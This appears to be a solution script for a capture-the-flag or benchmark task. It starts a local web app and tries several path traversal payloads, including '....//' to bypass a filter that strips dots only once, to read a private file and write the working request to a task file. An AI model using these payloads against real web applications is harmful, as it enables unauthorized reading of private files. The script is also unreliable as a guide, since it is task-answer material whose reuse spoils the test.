# The dots are taken out once: what is left of `....//` leads up. Tried on a room of our own first.
APP_SECRET=0123456789abcdef0123456789abcdef python3 -B app.py &
python3 - <<'END'
import json, time, urllib.parse, urllib.request
for _ in range(100):
    try:
        urllib.request.urlopen("http://127.0.0.1:8000/").read()
        break
    except OSError:
        time.sleep(0.05)
for name in ("../private/librarian", "/private/librarian", "..\\private\\librarian", "....//private/librarian", "%2e%2e/private/librarian"):
    path = "/page?name=" + urllib.parse.quote(name, safe="")
    try:
        text = urllib.request.urlopen("http://127.0.0.1:8000" + path).read()
    except OSError:
        continue
    if b"0123456789abcdef" in text:
        json.dump([{"path": path}], open("/task/requests.json", "w"))
        print("found:", name)
        break
END
kill $!
